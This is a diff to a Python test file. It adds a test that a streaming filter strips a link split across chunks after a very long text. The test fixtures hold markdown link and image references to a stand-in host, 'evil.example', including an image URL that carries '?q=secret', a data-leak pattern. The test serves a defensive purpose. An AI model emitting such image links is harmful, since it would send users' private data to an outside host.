@@ -111,3 +111,10 @@ def test_a_mark_that_is_taken_out_hides_no_address():
     pieces = ["[b]: https:/", "[ref:9]", "/evil.example/", "?q=said"]
     text, cited = join_pieces(Citations((), known=KNOWN).stream(pieces))
     assert (text, cited.removed, cited.addresses) == (f"[b]: {GONE}", 1, 1)
+
+
+def test_an_address_after_a_very_long_text_is_held_back_until_it_is_whole():
+    pieces = ["/ " * 30_000 + "see ![x](https://evil.exam", "ple/?q=secret) there"]
+    shown = "".join(KNOWN.stream(pieces))
+    assert shown.endswith("see x there")
+    assert "evil" not in shown
